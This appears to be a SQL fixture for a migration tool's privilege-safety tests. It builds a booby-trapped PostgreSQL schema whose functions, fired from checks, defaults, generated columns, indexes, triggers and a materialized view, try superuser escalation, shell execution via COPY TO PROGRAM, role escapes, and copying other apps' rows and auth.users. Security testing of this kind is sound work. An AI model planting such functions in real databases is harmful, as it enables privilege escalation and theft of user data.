-- Plants of a hostile legacy database (tests/test_privilege_safety.py).
-- Placeholders, filled in by the test: __SCHEMA__ (the source schema),
-- __SOURCE_DB__ (the legacy database's name), __APP_ROLE__ (the app role that
-- will own the data), __VICTIM__ (another app's table on the unified instance).
--
-- attack(tag) does nothing on the legacy database itself. Anywhere else (the
-- migrator's scratch database, the unified instance) it tries to become or
-- create a superuser, to give its app role more rights, to escape a SET ROLE,
-- and to copy another app's rows and Supabase's auth.users into its own table.
-- Every failure is swallowed, as an attacker would, so the migration goes on.
-- Every kind of code a COPY, an index build, ANALYZE, a matview refresh or a
-- restore can run calls it: CHECK, domain CHECK, DEFAULT, generated column,
-- index expression, trigger, materialized view.

CREATE TABLE __SCHEMA__.captured (tag text, val text);
CREATE TABLE __SCHEMA__.secrets (id integer PRIMARY KEY, secret text NOT NULL);
INSERT INTO __SCHEMA__.secrets VALUES (1, 'secret of __APP_ROLE__');

CREATE FUNCTION __SCHEMA__.attack(tag text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
DECLARE
  me text := (SELECT n.nspname FROM pg_catalog.pg_proc p
              JOIN pg_catalog.pg_namespace n ON n.oid OPERATOR(pg_catalog.=) p.pronamespace
              WHERE p.proname OPERATOR(pg_catalog.=) 'attack'
                AND pg_catalog.has_function_privilege(p.oid, 'EXECUTE') LIMIT 1);
BEGIN
  IF pg_catalog.current_database() OPERATOR(pg_catalog.=) '__SOURCE_DB__' THEN
    RETURN true;
  END IF;
  BEGIN EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER LOGIN', 'pwned_' || tag);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', 'touch /tmp/pwned_' || tag);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', current_user);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER CREATEROLE BYPASSRLS', '__APP_ROLE__');
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('GRANT pg_read_all_data TO %I', '__APP_ROLE__');
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    EXECUTE 'RESET ROLE';
    EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER', 'pwned_reset_' || tag);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('INSERT INTO %I.captured SELECT %L, v::text FROM __VICTIM__ v', me, tag);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('INSERT INTO %I.captured SELECT %L, u::text FROM auth.users u', me, tag);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END
$f$;

-- Index expressions and generated columns need an IMMUTABLE function; it calls
-- the volatile one through a query, which PostgreSQL allows.
CREATE FUNCTION __SCHEMA__.attack_i(tag text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE
  r boolean;
BEGIN
  BEGIN
    EXECUTE pg_catalog.format('SELECT %I.attack(%L)',
      (SELECT n.nspname FROM pg_catalog.pg_proc p
       JOIN pg_catalog.pg_namespace n ON n.oid OPERATOR(pg_catalog.=) p.pronamespace
       WHERE p.proname OPERATOR(pg_catalog.=) 'attack'
         AND pg_catalog.has_function_privilege(p.oid, 'EXECUTE') LIMIT 1), tag) INTO r;
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END
$f$;

CREATE FUNCTION __SCHEMA__.attack_trg() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN
  BEGIN EXECUTE pg_catalog.format('SELECT %I.attack(%L)', TG_TABLE_SCHEMA, 'trigger');
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN NEW;
END
$f$;

CREATE DOMAIN __SCHEMA__.evil_int AS integer CHECK (__SCHEMA__.attack('domain'));

CREATE TABLE __SCHEMA__.booby (
  id integer PRIMARY KEY,
  v  __SCHEMA__.evil_int,
  d  integer DEFAULT (CASE WHEN __SCHEMA__.attack('default') THEN 1 END),
  g  boolean GENERATED ALWAYS AS (__SCHEMA__.attack_i('generated' || id::text)) STORED,
  CONSTRAINT booby_check CHECK (__SCHEMA__.attack('check'))
);
CREATE INDEX booby_expr ON __SCHEMA__.booby (__SCHEMA__.attack_i('index' || v::text));
CREATE TRIGGER booby_trg BEFORE INSERT OR UPDATE ON __SCHEMA__.booby
  FOR EACH ROW EXECUTE FUNCTION __SCHEMA__.attack_trg();
INSERT INTO __SCHEMA__.booby (id, v) SELECT i, i FROM generate_series(1, 50) i;
CREATE MATERIALIZED VIEW __SCHEMA__.booby_mv AS SELECT id, __SCHEMA__.attack('matview') AS x FROM __SCHEMA__.booby;
